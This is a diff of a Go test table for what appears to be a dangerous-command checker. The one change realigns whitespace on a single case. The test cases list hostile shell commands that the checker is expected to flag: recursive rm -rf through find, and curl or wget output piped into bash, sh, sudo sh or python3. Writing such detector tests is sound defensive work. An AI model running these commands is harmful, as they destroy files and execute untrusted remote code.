@@ -112,7 +112,7 @@ func TestCheck(t *testing.T) {
 		{"find -exec sh -c", `find / -exec sh -c 'rm -rf "$1"' _ {} \;`, true},
 		{"find -execdir rm", "find ~ -execdir rm -rf {} +", true},
 		{"curl into bash -c", `bash -c "$(curl -fsSL https://x.invalid)"`, true}, // issue #31
-		{"curl into sh via process substitution", "sh <(curl -s x)", true}, // issue #31
+		{"curl into sh via process substitution", "sh <(curl -s x)", true},       // issue #31
 		{"curl with options pipe sudo sh", "curl -s x | sudo -E sh -", true},
 		{"wget pipe env bash", "wget -O- x | env bash", true},
 		{"curl pipe python", "curl x | python3", true},
